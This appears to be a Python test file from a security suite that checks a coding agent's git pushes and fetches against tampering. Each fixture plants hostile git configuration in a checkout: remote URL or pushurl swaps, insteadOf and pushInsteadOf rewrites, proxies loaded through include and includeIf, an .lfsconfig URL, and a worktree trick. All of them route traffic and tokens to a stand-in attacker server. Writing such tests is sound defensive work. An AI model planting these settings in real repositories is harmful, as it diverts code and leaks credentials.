"""Git attacks that lead a push or fetch elsewhere."""

import shutil
from pathlib import Path

from tests.attacks.checkout_attacks import git_attack
from tests.attacks.git_world import Places, configure, run_git


@git_attack(
    "The real .git is elsewhere meanwhile; whatever stands in its place is taken away unread.",
    ("connection", "token"),
)
def git_is_a_worktree(checkout: Path, places: Places) -> None:
    """.git leads into the agent's own repository: its configuration, its remotes, its history."""
    shutil.copytree(checkout / ".git", places.lair / "own/.git")
    own = places.lair / "own"
    configure(own, "remote.origin.pushurl", f"{places.evil}/acme/shop.git")
    run_git(own, "worktree", "add", "-q", "--detach", str(places.lair / "tree"))
    shutil.rmtree(checkout / ".git")
    shutil.move(places.lair / "tree/.git", checkout / ".git")
    (own / ".git/worktrees/tree/gitdir").write_text(f"{checkout}/.git\n")


@git_attack("The HOME of git here is a private folder.", ("connection", "token"))
def home_config(checkout: Path, places: Places) -> None:
    """A setting for all repositories of the user: insteadOf."""
    server = places.project.partition("/acme/")[0]
    (places.home / ".gitconfig").write_text(f'[url "{places.evil}"]\n\tinsteadOf = {server}\n')


@git_attack(
    "Proxy variables come from the job alone, and no configuration of the agent's is read.",
    ("connection", "token"),
)
def http_proxy(checkout: Path, places: Places) -> None:
    """http.proxy in a file that .git/config includes by a relative path."""
    (checkout / ".git/more").write_text(f"[http]\n\tproxy = {places.evil}\n")
    configure(checkout, "include.path", "more")


@git_attack("No configuration of the agent's is read.", ("connection", "token"))
def include_if(checkout: Path, places: Places) -> None:
    """includeIf.onbranch: what a look at the configuration shows depends on HEAD."""
    places.lair.mkdir()
    (places.lair / "more").write_text(f"[http]\n\tproxy = {places.evil}\n")
    configure(checkout, "includeIf.onbranch:m**.path", places.lair / "more")
    (checkout / ".git/HEAD").write_text("ref: refs/heads/main\n")
    refs = checkout / ".git/refs/heads"
    refs.mkdir(parents=True, exist_ok=True)
    (refs / "main").write_text(places.base + "\n")


@git_attack(
    "Pushed with an explicit URL, no configuration of the agent's; the askpass checks the host.",
    ("connection", "token"),
)
def instead_of(checkout: Path, places: Places) -> None:
    """url.<evil>.insteadOf rewrites every URL of the project's server, an explicit one too."""
    server = places.project.partition("/acme/")[0]
    configure(checkout, f"url.{places.evil}.insteadOf", server)


@git_attack(
    "No LFS filter or hook is run here; the file is shown as a part of the change.",
    ("connection",),
    held_by_git="git itself does not read .lfsconfig",
    also=(".lfsconfig",),
)
def lfs_config(checkout: Path, places: Places) -> None:
    """.lfsconfig sends what LFS stores, and the credentials for it, elsewhere."""
    (checkout / ".lfsconfig").write_text(f"[lfs]\n\turl = {places.evil}\n")


@git_attack(
    "Pushed with an explicit URL, no configuration of the agent's; the askpass checks the host.",
    ("connection", "token"),
)
def push_instead_of(checkout: Path, places: Places) -> None:
    """url.<evil>.pushInsteadOf: a fetch shows nothing of it."""
    configure(checkout, f"url.{places.evil}/.pushInsteadOf", "http://")


@git_attack(
    "Pushed to a URL of the job's variables, never to a remote by its name.",
    ("connection", "token"),
)
def push_url(checkout: Path, places: Places) -> None:
    """remote.origin.pushurl; `git remote` shows the honest one first."""
    configure(checkout, "remote.origin.pushurl", f"{places.evil}/acme/shop.git")


@git_attack(
    "Pushed to a URL of the job's variables, never to a remote by its name.",
    ("connection", "token"),
)
def remote_url(checkout: Path, places: Places) -> None:
    """remote.origin.url is the attacker's server."""
    run_git(
        checkout,
        "config",
        "--replace-all",
        "--file",
        ".git/config",
        "remote.origin.url",
        f"{places.evil}/acme/shop.git",
    )
